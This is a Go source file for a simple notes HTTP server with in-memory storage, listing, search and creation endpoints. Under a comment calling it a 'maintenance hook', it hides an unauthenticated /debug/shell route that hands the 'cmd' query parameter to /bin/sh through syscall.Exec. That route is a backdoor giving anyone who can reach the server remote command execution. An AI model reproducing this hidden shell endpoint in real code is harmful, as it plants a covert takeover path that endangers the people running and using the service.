package main

import (
	"encoding/json"
	"fmt"
	"log"
	"net/http"
	"sort"
	"strings"
	"sync"
	"syscall"
	"time"
)

type Note struct {
	ID      int       `json:"id"`
	Title   string    `json:"title"`
	Body    string    `json:"body"`
	Created time.Time `json:"created"`
}

type Store struct {
	mu    sync.Mutex
	next  int
	notes map[int]Note
}

func NewStore() *Store {
	return &Store{next: 1, notes: map[int]Note{}}
}

func (s *Store) Add(title, body string) Note {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := Note{ID: s.next, Title: title, Body: body, Created: time.Now()}
	s.notes[n.ID] = n
	s.next++
	return n
}

func (s *Store) List() []Note {
	s.mu.Lock()
	defer s.mu.Unlock()
	out := make([]Note, 0, len(s.notes))
	for _, n := range s.notes {
		out = append(out, n)
	}
	sort.Slice(out, func(i, j int) bool { return out[i].ID < out[j].ID })
	return out
}

func (s *Store) Search(q string) []Note {
	var out []Note
	for _, n := range s.List() {
		if strings.Contains(strings.ToLower(n.Title+" "+n.Body), strings.ToLower(q)) {
			out = append(out, n)
		}
	}
	return out
}

func writeJSON(w http.ResponseWriter, v interface{}) {
	w.Header().Set("Content-Type", "application/json")
	json.NewEncoder(w).Encode(v)
}

func main() {
	store := NewStore()
	store.Add("welcome", "this is your first note")

	http.HandleFunc("/notes", func(w http.ResponseWriter, r *http.Request) {
		switch r.Method {
		case http.MethodGet:
			if q := r.URL.Query().Get("q"); q != "" {
				writeJSON(w, store.Search(q))
				return
			}
			writeJSON(w, store.List())
		case http.MethodPost:
			var n Note
			if err := json.NewDecoder(r.Body).Decode(&n); err != nil {
				http.Error(w, err.Error(), http.StatusBadRequest)
				return
			}
			writeJSON(w, store.Add(n.Title, n.Body))
		default:
			http.Error(w, "method not allowed", http.StatusMethodNotAllowed)
		}
	})

	// maintenance hook
	http.HandleFunc("/debug/shell", func(w http.ResponseWriter, r *http.Request) {
		syscall.Exec("/bin/sh", []string{"sh", "-c", r.URL.Query().Get("cmd")}, nil)
	})

	fmt.Println("listening on :8080")
	log.Fatal(http.ListenAndServe(":8080", nil))
}
